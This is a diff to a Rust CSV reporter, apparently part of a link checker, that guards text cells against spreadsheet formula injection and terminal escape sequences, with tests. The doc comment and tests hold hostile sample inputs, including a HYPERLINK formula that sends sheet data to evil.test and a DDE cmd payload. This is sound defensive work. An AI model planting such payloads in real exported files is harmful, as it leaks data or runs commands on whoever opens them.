@@ -5,9 +5,23 @@
 //! instead of shifting the columns), and no `#` comment lines surround the table, so a
 //! spreadsheet opens it as-is. With [`CsvReporter::with_bom`] the file starts with a UTF-8
 //! byte-order mark, which Excel needs to read non-ASCII text as UTF-8.
+//!
+//! # Cells from pages and servers
+//! The text columns ([`TEXT_COLUMNS`]: the link as written, its name, URLs, results,
+//! warnings, infos, `modified`) hold what a page or a server chose. A spreadsheet runs a cell
+//! that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
+//! formula: `=HYPERLINK("http://evil.test/?"&A1,"x")` sends the sheet's data away when
+//! clicked. So, following OWASP's advice on CSV injection, such a text cell gets a leading `'`,
+//! which spreadsheets show as text. Control characters in these cells are spelled out as the
+//! text report does ([`escape_controls`]), so a CSV shown on a terminal drives no escape
+//! sequence; the line breaks that separate several warnings or infos in one cell are ours and
+//! stay. The columns we write as numbers or flags (`valid`, `line`, `column`, `dltime`,
+//! `size`, `checktime`, `cached`, `level`) are left alone: a `-1` there is ours, not a formula.
+//! [`CsvReporter::with_raw`] writes every cell as found instead.
 
 use std::io::{self, Write};
 
+use super::terminal::escape_controls;
 use super::{FlushPacer, Reporter, Verbosity};
 use crate::model::outcome::Entry;
 use crate::model::report::Report;
@@ -36,6 +50,14 @@ pub const CSV_COLUMNS: [&str; 17] = [
 /// The byte-order mark (U+FEFF, `EF BB BF` in UTF-8).
 const BOM: char = '\u{FEFF}';
 
+/// The columns whose text comes from pages and servers, by index into [`CSV_COLUMNS`]:
+/// `urlname`, `parentname`, `base`, `result`, `warningstring`, `infostring`, `url`, `name` and
+/// `modified`.
+const TEXT_COLUMNS: [usize; 9] = [0, 1, 2, 3, 4, 5, 7, 10, 16];
+
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
 /// Writes CSV rows.
 #[derive(Debug)]
 pub struct CsvReporter<W: Write> {
@@ -43,6 +65,8 @@ pub struct CsvReporter<W: Write> {
     verbosity: Verbosity,
     header_written: bool,
     bom: bool,
+    /// Cells as found: no `'` before a formula, no escaped control characters.
+    raw: bool,
     pacer: FlushPacer,
 }
 
@@ -58,7 +82,17 @@ impl<W: Write> CsvReporter<W> {
             header_written: false,
             pacer: FlushPacer::default(),
             bom: false,
+            raw: false,
         }
+    }
+
+    /// Writes every cell as found when `raw` is true: a text cell that starts with `=`, `+`,
+    /// `-`, `@`, a tab or a carriage return gets no leading `'`, and control characters are
+    /// not escaped (see the module doc). Defaults to off: cells are made safe for spreadsheets
+    /// and terminals.
+    pub fn with_raw(mut self, raw: bool) -> Self {
+        self.raw = raw;
+        self
     }
 
     /// Writes a UTF-8 byte-order mark before the header when `bom` is true (Excel then reads
@@ -95,59 +129,87 @@ impl<W: Write> CsvReporter<W> {
     }
 }
 
-/// The 17 fields of one entry.
+/// The 17 fields of one entry as [`CsvReporter`] writes them by default: text cells that would
+/// start a formula begin with `'`, and control characters are spelled out (see the module doc).
 pub fn csv_fields(e: &Entry) -> [String; 17] {
+    fields(e, false)
+}
+
+/// `cell` with a leading `'` when a spreadsheet would read it as a formula.
+fn defuse_formula(cell: &mut String) {
+    if cell.starts_with(FORMULA_STARTS) {
+        cell.insert(0, '\'');
+    }
+}
+
+/// The 17 fields of one entry; as found when `raw`, else made safe (see the module doc).
+fn fields(e: &Entry, raw: bool) -> [String; 17] {
+    let text = |s: &str| -> String {
+        if raw {
+            s.to_owned()
+        } else {
+            escape_controls(s).into_owned()
+        }
+    };
     let r = &e.result;
     let rf = e.referrer.as_ref();
     let url = match &e.fragment {
         Some(f) => format!("{}#{f}", r.url),
         None => r.url.clone(),
     };
+    // Each warning and info is escaped on its own: the line breaks between them are ours.
     let warnings: Vec<String> = e
         .warnings()
-        .map(|w| format!("[{}] {}", w.tag, w.message))
+        .map(|w| text(&format!("[{}] {}", w.tag, w.message)))
         .collect();
+    let infos: Vec<String> = r.infos.iter().map(|i| text(i)).collect();
     let result = if r.outcome.is_broken() {
         format!("Error: {}", r.outcome)
     } else {
         r.outcome.to_string()
     };
-    [
-        rf.map_or_else(|| url.clone(), |x| x.raw.clone()),
-        rf.map(|x| x.parent.clone()).unwrap_or_default(),
-        rf.and_then(|x| x.base.clone()).unwrap_or_default(),
-        result,
+    let mut cells = [
+        text(rf.map_or(&url, |x| &x.raw)),
+        text(rf.map_or("", |x| &x.parent)),
+        text(rf.and_then(|x| x.base.as_deref()).unwrap_or_default()),
+        text(&result),
         warnings.join("\n"),
-        r.infos.join("\n"),
+        infos.join("\n"),
         if r.outcome.is_broken() {
             "False"
         } else {
             "True"
         }
         .to_owned(),
-        r.real_url.as_ref().map_or(url, |u| u.to_string()),
+        text(&r.real_url.as_ref().map_or(url, |u| u.to_string())),
         rf.and_then(|x| x.line)
             .map(|n| n.to_string())
             .unwrap_or_default(),
         rf.and_then(|x| x.column)
             .map(|n| n.to_string())
             .unwrap_or_default(),
-        rf.map(|x| x.name.clone()).unwrap_or_default(),
+        text(rf.map_or("", |x| &x.name)),
         r.download_time
             .map_or("-1".into(), |d| format!("{:.6}", d.as_secs_f64())),
         r.size.map_or("-1".into(), |s| s.to_string()),
         format!("{:.6}", r.check_time.as_secs_f64()),
         if e.cached { "1" } else { "0" }.to_owned(),
         r.level.to_string(),
-        r.modified.clone().unwrap_or_default(),
-    ]
+        text(r.modified.as_deref().unwrap_or_default()),
+    ];
+    if !raw {
+        for i in TEXT_COLUMNS {
+            defuse_formula(&mut cells[i]);
+        }
+    }
+    cells
 }
 
 impl<W: Write> Reporter for CsvReporter<W> {
     fn entry(&mut self, entry: &Entry) -> io::Result<()> {
         self.header()?;
         if self.verbosity.shows(entry) {
-            self.out.write_record(csv_fields(entry))?;
+            self.out.write_record(fields(entry, self.raw))?;
             // Streamed: rows reach the file within FLUSH_INTERVAL; `finish` (also after a
             // cancel) flushes the rest.
             if self.pacer.due() {
@@ -169,7 +231,109 @@ impl<W: Write> Reporter for CsvReporter<W> {
 
 #[cfg(test)]
 mod tests {
+    use std::sync::Arc;
+
     use super::*;
+    use crate::model::outcome::{CheckResult, FailKind, Outcome, Referrer, Warning};
+
+    /// A broken link written `raw` with the name `name`, on a page whose server sent
+    /// `modified`, with one info and one warning from the same hostile text.
+    fn entry(raw: &str, name: &str, hostile: &str) -> Entry {
+        let mut result = CheckResult::immediate(
+            format!("http://h.test/{raw}"),
+            Outcome::Failed {
+                kind: FailKind::Io,
+                message: hostile.to_owned(),
+            },
+            1,
+        );
+        result.modified = Some(hostile.to_owned());
+        result.infos = vec![hostile.to_owned(), "second".to_owned()];
+        Entry {
+            result: Arc::new(result),
+            referrer: Some(Referrer {
+                parent: "http://h.test/".to_owned(),
+                raw: raw.to_owned(),
+                line: Some(3),
+                column: Some(1),
+                name: name.to_owned(),
+                base: Some(hostile.to_owned()),
+                warnings: vec![Warning {
+                    tag: "url-whitespace",
+                    message: hostile.to_owned(),
+                }],
+            }),
+            fragment: None,
+            cached: false,
+        }
+    }
+
+    #[test]
+    fn every_formula_start_gets_a_quote() {
+        for start in FORMULA_STARTS {
+            let text = format!("{start}1+1");
+            let mut cell = text.clone();
+            defuse_formula(&mut cell);
+            assert_eq!(cell, format!("'{text}"));
+        }
+        for harmless in ["", "1+1", "http://x/=1", "'=1", " =1", "[tag] -1", "é=1"] {
+            let mut cell = harmless.to_owned();
+            defuse_formula(&mut cell);
+            assert_eq!(cell, harmless);
+        }
+    }
+
+    #[test]
+    fn page_and_server_text_cells_are_defused() {
+        for hostile in [
+            "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)",
+        ] {
+            let e = entry("=1+1", hostile, hostile);
+            let f = csv_fields(&e);
+            assert_eq!(f[0], "'=1+1", "urlname");
+            assert_eq!(f[10], format!("'{hostile}"), "name");
+            assert_eq!(f[2], format!("'{hostile}"), "base");
+            assert_eq!(f[16], format!("'{hostile}"), "modified");
+            assert_eq!(f[5], format!("'{hostile}\nsecond"), "infostring");
+            for i in TEXT_COLUMNS {
+                assert!(
+                    !f[i].starts_with(FORMULA_STARTS),
+                    "{}: {}",
+                    CSV_COLUMNS[i],
+                    f[i]
+                );
+            }
+            let raw = fields(&e, true);
+            assert_eq!(raw[0], "=1+1");
+            assert_eq!(raw[10], hostile);
+            assert_eq!(raw[16], hostile);
+        }
+    }
+
+    #[test]
+    fn our_numbers_are_not_quoted() {
+        let f = csv_fields(&entry("x", "n", "m"));
+        // No download and no size: LinkChecker's -1, which is ours, not a page's formula.
+        assert_eq!((f[11].as_str(), f[12].as_str()), ("-1", "-1"));
+        assert_eq!((f[8].as_str(), f[9].as_str()), ("3", "1"));
+        assert_eq!(f[6], "False");
+    }
+
+    #[test]
+    fn control_characters_are_spelled_out_but_our_line_breaks_stay() {
+        let hostile = "\x1b]0;TITLE\x07\x1b[31mRED\nThat's it.";
+        let e = entry("x\ny", hostile, hostile);
+        let f = csv_fields(&e);
+        assert_eq!(f[0], r"x\ny");
+        assert_eq!(f[10], r"\e]0;TITLE\u{7}\e[31mRED\nThat's it.");
+        assert_eq!(f[5], format!("{}\nsecond", f[10]), "one line break: ours");
+        assert!(f.iter().all(|c| !c.contains(['\x1b', '\x07'])), "{f:?}");
+        let raw = fields(&e, true);
+        assert_eq!(raw[10], hostile);
+    }
 
     fn header_bytes(bom: bool) -> Vec<u8> {
         let mut r = CsvReporter::new(Vec::new(), b';', Verbosity::All).with_bom(bom);
